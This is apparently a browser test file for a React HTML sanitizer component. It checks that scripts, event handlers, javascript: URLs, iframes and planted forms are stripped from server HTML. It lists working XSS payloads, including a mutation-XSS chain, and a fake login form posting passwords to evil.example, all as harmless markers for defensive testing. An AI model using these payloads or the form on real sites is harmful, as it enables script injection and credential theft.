import { afterEach, describe, expect, test } from 'vitest';
import { render } from 'vitest-browser-react';
import { SafeHtml } from '@src/components/safe-html/safe-html';
import { sanitizeHtml } from '@src/components/safe-html/sanitize-html';

declare global {
  interface Window {
    safeHtmlPwned?: number[];
  }
}

afterEach(() => {
  delete window.safeHtmlPwned;
});

/** Each payload records its number in window.safeHtmlPwned if it ever runs. */
const HOSTILE_PAYLOADS = [
  '<img src="x" onerror="(window.safeHtmlPwned ??= []).push(1)">',
  '<script>(window.safeHtmlPwned ??= []).push(2)</script>',
  '<a href="javascript:(window.safeHtmlPwned ??= []).push(3)">a link</a>',
  '<svg><animate onbegin="(window.safeHtmlPwned ??= []).push(4)" attributeName="x" dur="1s"></animate></svg>',
  '<iframe srcdoc="<script>parent.safeHtmlPwned = [5]</script>"></iframe>',
  '<div onmouseover="(window.safeHtmlPwned ??= []).push(6)">hover me</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror="(window.safeHtmlPwned ??= []).push(7)">',
  '<body onload="(window.safeHtmlPwned ??= []).push(8)">',
  '<object data="javascript:(window.safeHtmlPwned ??= []).push(9)"></object>',
];

describe('SafeHtml: server HTML bodies never run code', () => {
  test('scripts, event handlers and javascript: URLs are removed; the text stays', async () => {
    const screen = await render(
      <SafeHtml
        data-testid="note"
        html={`<p>Quarterly <strong>note</strong> with a <a href="https://example.com/report">report link</a>.</p>${HOSTILE_PAYLOADS.join('')}`}
      />,
    );
    const body = screen.getByTestId('note').element();
    expect(body.textContent).toContain('Quarterly note with a report link.');
    expect(body.querySelector('strong')?.textContent).toBe('note');
    expect(body.querySelector('a[href="https://example.com/report"]')).not.toBeNull();
    expect(body.querySelectorAll('script, iframe, object, svg, math, style, form')).toHaveLength(0);
    for (const element of body.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name, element.outerHTML).not.toMatch(/^on/i);
        expect(attribute.value, element.outerHTML).not.toMatch(/javascript:/i);
      }
    }
    // Let a broken image fail and any handler that survived run; hover the hover bait.
    body.querySelector('div')?.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    for (const anchor of body.querySelectorAll('a')) anchor.dispatchEvent(new MouseEvent('mouseover'));
    await new Promise((done) => setTimeout(done, 300));
    expect(window.safeHtmlPwned).toBeUndefined();
  });

  test('a form cannot be planted (no fake login inside a help item)', () => {
    const html = sanitizeHtml(
      '<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>After',
    );
    expect(html).not.toMatch(/<form|<input|<button/);
    expect(html).toContain('After');
  });

  test('a link that opens a new tab does not hand over our window', () => {
    const html = sanitizeHtml('<a href="https://example.com/" target="_blank">out</a>');
    const anchor = new DOMParser().parseFromString(html, 'text/html').querySelector('a');
    expect(anchor?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  test('a new body replaces the old one, sanitized again', async () => {
    const screen = await render(<SafeHtml data-testid="note" html="<p>first</p>" />);
    await screen.rerender(
      <SafeHtml data-testid="note" html='<p>second</p><img src="x" onerror="window.safeHtmlPwned = [10]">' />,
    );
    const body = screen.getByTestId('note').element();
    expect(body.textContent).toBe('second');
    await new Promise((done) => setTimeout(done, 300));
    expect(window.safeHtmlPwned).toBeUndefined();
  });
});
